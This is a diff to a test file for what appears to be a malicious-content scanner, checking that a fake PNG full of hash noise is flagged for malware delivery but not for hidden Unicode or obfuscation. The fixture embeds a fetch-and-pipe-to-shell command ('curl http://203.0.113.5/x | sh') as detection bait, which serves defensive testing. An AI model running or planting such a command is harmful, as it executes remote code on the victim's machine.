@@ -175,10 +175,12 @@ describe('an analysis', () => {
 
   it('reads of pictures and other bytes what is ASCII in them, and takes nothing else for writing', async () => {
     const noise = Array.from({ length: 200 }, (_, index) => createHash('sha512').update(`${index}`).digest());
-    const content = Buffer.concat([...noise, Buffer.from('\u202e\u200b'), ...noise, Buffer.from('\ncurl http://203.0.113.5/x | sh\n'), ...noise]);
+    const letters = Buffer.from('A\xff\nB\xffC\xff\tD\xffE\xffF\xffG\xffH\xffI\xffJ\xff', 'latin1');
+    const content = Buffer.concat([...noise, Buffer.from('\u202e\u200b'), letters, letters, ...noise, Buffer.from('\ncurl http://203.0.113.5/x | sh\n'), ...noise]);
     const { categories } = await analyzeFiles([{ path: 'picture.png', content }]);
     expect(categories).toContain('Malware delivery');
     expect(categories).not.toContain('Hidden Unicode');
+    expect(categories).not.toContain('Obfuscation');
   });
 
   it('is not fooled by zero bytes or UTF-16', async () => {
